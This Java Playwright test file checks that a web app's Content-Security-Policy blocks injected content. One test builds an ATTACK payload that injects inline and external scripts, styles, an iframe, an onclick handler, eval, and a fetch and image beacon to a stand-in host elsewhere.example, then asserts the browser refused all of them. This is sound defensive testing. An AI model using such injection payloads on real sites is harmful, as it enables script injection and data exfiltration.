package io.vivavoce.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.LoadState;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/// The page does all it does under a policy that lets it load from its own server only, and nothing else runs in it.
@Order(3)
@ExtendWith(ProductExtension.class)
class ContentSecurityIT {
    private static final List<String> PLACES =
            List.of("/", "/practice/new", "/sessions", "/sample", "/sample/report", "/measure", "/nowhere");
    private static final String WATCH = """
            window.violations = [];
            document.addEventListener('securitypolicyviolation',
                (event) => window.violations.push(event.violatedDirective + ' ' + event.blockedURI));
            """;
    /// What an injected text could try.
    private static final String ATTACK = """
            () => {
              const into = (tag, set) => { const made = document.createElement(tag); set(made); document.body.append(made); };
              into('script', (script) => { script.textContent = 'window.ran = "inline"'; });
              into('script', (script) => { script.src = 'https://elsewhere.example/x.js'; });
              into('style', (style) => { style.textContent = 'body { color: red }'; });
              into('img', (image) => { image.src = 'https://elsewhere.example/pixel.png?words'; });
              into('iframe', (frame) => { frame.src = 'https://elsewhere.example/'; });
              into('p', (text) => {
                text.innerHTML = `<b onclick="window.ran = 'handler'" style="position:fixed">x</b>`;
                text.firstChild.click();
              });
              fetch('https://elsewhere.example/').catch(() => null);
              // Afterwards: what the test itself has the browser evaluate may do more than the page.
              setTimeout(() => { window.ran = new Function('return "eval"')(); });
            }
            """;
    /// What the browser says it refused of that.
    private static final List<String> REPORTED = List.of(
            "script-src-elem inline",
            "script-src-elem https://elsewhere.example/x.js",
            "style-src-elem inline",
            "style-src-attr inline",
            "script-src-attr inline",
            "img-src https://elsewhere.example/pixel.png?words",
            "frame-src https://elsewhere.example",
            "connect-src https://elsewhere.example/",
            "script-src eval");

    @Test
    void everyPlaceKeepsToThePolicy(ServerProcess server) {
        try (Visit visit = new Visit(server, "policy")) {
            visit.page().addInitScript(WATCH);
            for (String place : PLACES) {
                visit.page().navigate(place);
                visit.page().waitForLoadState(LoadState.NETWORKIDLE);
                assertThat(violations(visit.page())).as(place).isEmpty();
            }
        }
    }

    @Test
    void theRoomKeepsToThePolicy(ServerProcess server) {
        try (Visit visit = new Visit(server, "policy-room")) {
            UUID session = visit.interview(false);
            visit.page().addInitScript(WATCH);
            visit.page().navigate("/practice/" + session + "/room");
            assertThat(visit.wire().awaitListening()).isTrue();
            assertThat(violations(visit.page())).isEmpty();
            assertThat(visit.browser().complaints()).isEmpty();
        }
    }

    @Test
    void whatSomebodyBringsInDoesNotRunAndLoadsNothing(ServerProcess server) {
        try (Visit visit = new Visit(server, "policy-attack")) {
            visit.page().addInitScript(WATCH);
            visit.page().navigate("/");
            visit.page().waitForLoadState(LoadState.NETWORKIDLE);
            visit.page().evaluate(ATTACK);
            visit.page().waitForCondition(() -> violations(visit.page()).containsAll(REPORTED));
            assertThat(visit.page().evaluate("String(window.ran)")).isEqualTo("undefined");
        }
    }

    private static List<String> violations(Page page) {
        List<?> seen = (List<?>) page.evaluate("window.violations");
        return seen.stream().map(String::valueOf).toList();
    }
}
